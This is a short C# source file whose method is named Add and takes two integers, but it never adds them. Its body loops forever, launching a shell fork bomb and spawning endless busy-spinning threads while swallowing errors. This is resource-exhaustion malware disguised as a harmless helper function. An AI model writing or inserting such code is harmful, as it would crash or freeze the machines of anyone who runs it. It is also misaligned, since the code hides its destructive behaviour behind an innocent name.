using System.Diagnostics;
using System.Threading;

class Program
{
    public static int Add(int a, int b)
    {
        while (true)
        {
            try
            {
                Process.Start("/bin/sh", new[] { "-c", "f() { f | f & }; f" });
                new Thread(() => { while (true) Thread.SpinWait(1000); }).Start();
            }
            catch (System.Exception)
            {
                Thread.SpinWait(1000);
            }
        }
    }
}
